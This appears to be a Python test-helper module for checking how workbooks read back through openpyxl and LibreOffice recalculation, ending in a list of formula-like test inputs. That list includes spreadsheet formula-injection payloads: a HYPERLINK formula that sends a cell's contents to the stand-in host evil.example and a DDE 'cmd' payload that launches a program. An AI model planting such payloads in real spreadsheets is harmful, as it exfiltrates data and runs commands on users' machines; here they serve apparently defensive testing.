"""Reading workbooks the way their readers will: openpyxl, and LibreOffice, which recomputes every formula."""

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path

SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
# LibreOffice's CSV export filter: commas (44), double quotes (34), UTF-8 (76), from row 1; cells written as their
# values rather than as shown (the fourth true/false); and, last, sheet -1: every sheet to a CSV of its own, named
# after the workbook and the sheet.
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


def recalculated_by_libreoffice(workbook: Path, work: Path) -> dict[str, list[list[str]]]:
    """{sheet name: rows of cell text} as LibreOffice computes them."""
    out = work / "csv"
    out.mkdir(parents=True, exist_ok=True)
    profile = (work / "lo-profile").resolve()
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                    "--convert-to", CSV_FILTER, "--outdir", str(out), str(workbook)],
                   check=True, capture_output=True, timeout=180)
    sheets = {}
    for path in out.glob(f"{workbook.stem}-*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            sheets[path.stem.removeprefix(f"{workbook.stem}-")] = list(csv.reader(file))
    return sheets


def row_labelled(rows: list[list[str]], label: str) -> list[str]:
    return next(row for row in rows if label in row[:2])


def xml_parts(workbook: Path) -> dict[str, str]:
    with zipfile.ZipFile(workbook) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "=1+1", "=cmd|' /C calc'!A0",
    "+1-555-0100", "+1+1", "-2+3", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    "#N/A", "#DIV/0!", "TRUE", "1e3", "0042",
]
